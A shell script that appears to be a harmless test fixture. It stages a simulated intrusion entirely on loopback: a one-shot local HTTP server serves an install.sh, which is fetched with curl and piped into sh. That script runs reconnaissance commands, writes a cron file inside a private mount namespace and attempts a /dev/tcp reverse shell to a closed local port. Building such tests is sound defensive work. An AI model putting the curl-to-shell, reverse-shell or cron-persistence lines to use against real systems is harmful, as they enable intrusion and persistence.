#!/bin/sh
# A small intrusion for the browser test, harmless: a script fetched from loopback and piped into a shell looks around,
# writes into a private /etc/cron.d and tries a reverse shell towards a closed port. Argument: an empty scratch directory.
set -eu
cd "$1"
cat > install.sh <<'SCRIPT'
id
uname -a
unshare -m sh -ec 'mount -t tmpfs tmpfs /etc/cron.d && echo "# nothing" > /etc/cron.d/update' || true
bash -c 'exec 3<>/dev/tcp/127.0.0.1/9' 2>/dev/null || true
SCRIPT
# One answer, then it ends; the port is the kernel's choice.
python3 - <<'SERVER' &
import http.server, os
server = http.server.HTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
server.timeout = 10
with open("port.new", "w") as file:
    file.write(str(server.server_port))
os.rename("port.new", "port")
server.handle_request()
SERVER
tries=0
until [ -f port ]; do
  tries=$((tries + 1))
  [ "$tries" -lt 100 ] || { echo 'intrusion: the server does not start' >&2; exit 1; }
  sleep 0.05
done
sh -c "curl -s --max-time 5 http://127.0.0.1:$(cat port)/install.sh | sh" >/dev/null
wait
